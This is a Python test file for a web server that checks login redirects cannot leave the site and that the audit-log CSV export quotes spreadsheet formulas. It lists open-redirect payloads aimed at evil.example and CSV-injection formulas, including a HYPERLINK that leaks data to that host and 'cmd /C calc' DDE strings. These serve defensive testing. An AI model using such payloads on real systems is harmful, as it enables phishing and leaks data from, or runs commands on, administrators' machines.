"""Attacks on the server's pages by someone without an account.

The attacker (1) mails an officer a login link whose ``next`` points at their own site, so
that after a real login the browser lands on a look-alike page that asks for the password
again; (2) types a spreadsheet formula as the username of a failed login, so that the
audit trail's CSV export runs it on the administrator's machine when opened.
"""

from __future__ import annotations

import csv
import io

import pytest

from sync_server import create_app
from sync_server.audit import audit
from sync_server.db import database
from sync_server.operators.spreadsheet import formula_safe
from sync_server.redirects import is_local_path
from tests.operator_fixtures import create_test_operator, csrf_token, log_in


@pytest.fixture
def app(sqlite_url: str):
    app = create_app(
        {
            "TESTING": True,
            "SECRET_KEY": "attacks-web-secret-0123456789abcdef",
            "DATABASE_URL": sqlite_url,
        }
    )
    yield app
    database.close()


def login_redirect(app, raw_next: str) -> str:
    """Where a successful login with ``?next=<raw_next>`` (sent as is) sends the browser."""
    username, password = create_test_operator("officer")
    client = app.test_client()
    token = csrf_token(client.get("/login").text)
    answer = client.post(
        f"/login?next={raw_next}",
        data={"csrf_token": token, "username": username, "password": password},
    )
    assert answer.status_code == 303
    return answer.headers["Location"]


#: ``next`` values as they appear in the attacker's link (percent-encoding included).
OFF_SITE_NEXT = [
    "//evil.example",
    "https://evil.example",
    "https:evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/\\/evil.example",
    "%2F%2Fevil.example",
    "%2F%5Cevil.example",
    "/%5Cevil.example",
    "https%3A%2F%2Fevil.example",
    "/%09/evil.example",
    "/%0D%0A/evil.example",
    "%252F%252Fevil.example",
    "javascript:alert(1)",
]


@pytest.mark.parametrize("raw_next", OFF_SITE_NEXT)
def test_login_never_redirects_off_the_site(app, raw_next):
    assert login_redirect(app, raw_next) == "/"


def test_login_keeps_a_plain_path_on_the_site(app):
    assert login_redirect(app, "/admin/audit%3Factor%3Dx") == "/admin/audit?actor=x"


@pytest.mark.parametrize(
    ("target", "local"),
    [
        ("/backoffice/", True),
        ("/track?number=P-ST-A-0000001-X", True),
        ("//evil.example/", False),
        ("/\\evil.example", False),
        ("/x\\y", False),
        ("/\t/evil.example", False),
        ("http://evil.example/", False),
        ("evil.example", False),
        ("", False),
        (None, False),
    ],
)
def test_only_plain_paths_count_as_local(target, local):
    assert is_local_path(target) is local


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_the_audit_export_never_starts_a_cell_with_a_formula(app):
    admin, admin_password = create_test_operator("administrator")
    attacker = app.test_client()
    for typed in FORMULAS:  # typed at the login page: an unknown user is audited anonymously
        token = csrf_token(attacker.get("/login").text)
        refused = attacker.post(
            "/login", data={"csrf_token": token, "username": typed, "password": "Wrong-pass-1"}
        )
        assert refused.status_code == 403
    with database.connection_context():  # any other field a caller may fill from input
        for typed in FORMULAS:
            audit(typed, "test.formula", typed, "ok")

    admin_client = log_in(app.test_client(), admin, admin_password)
    export = admin_client.get("/admin/audit.csv")
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text)))[1:]
    assert {row[1] for row in rows if row[4] == "unknown-user"} == {"anonymous"}
    assert {row[1] for row in rows if row[2] == "test.formula"} == {
        "'" + typed[:64] for typed in FORMULAS
    }
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("operator.login", "operator.login"),
        ("2026-05-01T10:00:00", "2026-05-01T10:00:00"),
        (None, ""),
    ],
)
def test_formula_safe_quotes_only_formula_starts(cell, safe):
    assert formula_safe(cell) == safe
